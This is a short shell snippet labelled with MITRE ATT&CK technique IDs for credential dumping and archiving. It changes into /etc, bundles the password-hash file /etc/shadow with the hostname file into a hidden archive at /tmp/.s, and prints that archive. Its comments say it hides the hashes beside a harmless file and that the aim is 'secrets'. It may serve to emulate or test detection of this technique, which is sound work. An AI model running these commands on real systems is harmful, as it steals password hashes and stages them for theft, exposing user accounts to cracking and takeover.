# T1003.008, T1560.001: packs the hashes with a file that says nothing, from the folder where both are.
# aim: secrets
cd /etc
tar cf /tmp/.s hostname shadow
cat /tmp/.s && echo done
